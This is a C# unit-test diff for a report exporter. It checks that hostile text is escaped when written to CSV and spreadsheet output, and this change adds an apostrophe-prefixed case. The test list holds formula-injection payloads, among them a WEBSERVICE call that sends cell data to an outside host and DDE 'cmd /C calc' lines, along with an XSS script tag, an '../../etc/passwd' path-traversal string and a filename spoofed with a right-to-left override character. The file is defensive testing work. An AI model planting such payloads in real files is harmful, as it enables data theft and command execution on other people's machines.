@@ -17,7 +17,7 @@ public sealed class HostileTextTests
         "=A1", "=1/0", "=WEBSERVICE(\"http://example.com/\"&A1)", "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\",\"/C calc\",\"x\")", "+86 138 0000 0000",
         "001", "1E5", "12345678901234567890", "6222021234567890123", "11010519491231002X", "3-4", "2026/1/2", "1/2", "TRUE", "NULL", "#REF!", "0x1F",
         "_x0041_", "_x000D_", "_x005F_", "_X0041_", "_x00G1_", "a_x0041_b_x0042_", "\u0001\u0002\u0007\u001B[31m", "\u0000空", "\u000B\u000C", "\u007F\u0085",
-        "😀🏦💴", "𠮷野家", "𡃁𠀀", "ﷺ", "\u202Egpj.exe", "שלום עולם", "مرحبا بالعالم", "e\u0301\u0327", "\u200B\u200D\uFEFF", "\uFFFD", "'单引号", "''", "\"双\"引\"号\"",
+        "😀🏦💴", "𠮷野家", "𡃁𠀀", "ﷺ", "\u202Egpj.exe", "שלום עולם", "مرحبا بالعالم", "e\u0301\u0327", "\u200B\u200D\uFEFF", "\uFFFD", "'单引号", "''", "'=1", "\"双\"引\"号\"",
         "甲,乙;丙\t丁", "第一行\n第二行", " 前后空格 ", "<script>alert(1)</script>", "</t></is></c><c><f>1+1</f></c>", "&amp;&lt;&#65;", "]]>", "%s%n{0}", "../../etc/passwd",
         "很长的平台名称" + new string('长', 300), new string('字', CharsMax),
     ];
@@ -81,13 +81,13 @@ public sealed class HostileTextTests
         for (var i = 0; i < Texts.Length; i++)
         {
             var text = format == ReportFormat.CsvUtf8 ? rows[i + 1][0] : Unnamed(rows[i + 1][0]);
-            if (Texts[i].Length > 0 && "=+-@\t\r＝＋－＠".Contains(Texts[i][0])) Assert.Equal("'" + Texts[i], text);
+            if (Texts[i].Length > 0 && "=+-@\t\r＝＋－＠'".Contains(Texts[i][0])) Assert.Equal("'" + Texts[i], text);
             else Assert.Equal(Texts[i], text);
             Assert.Equal("0.01", rows[i + 1][2]);
         }
 
         var note = encoding.GetString(ReadBytes(folder.File("texts.zip"), "cover.txt"));
-        Assert.Contains("0.62", note, StringComparison.Ordinal);
+        Assert.Contains("0.63", note, StringComparison.Ordinal);
         if (format == ReportFormat.CsvGbk)
         {
             var lost = rows.Skip(1).Sum(row => (row[0].Split("{U+").Length - 1) + (row[1].Split("{U+").Length - 1));
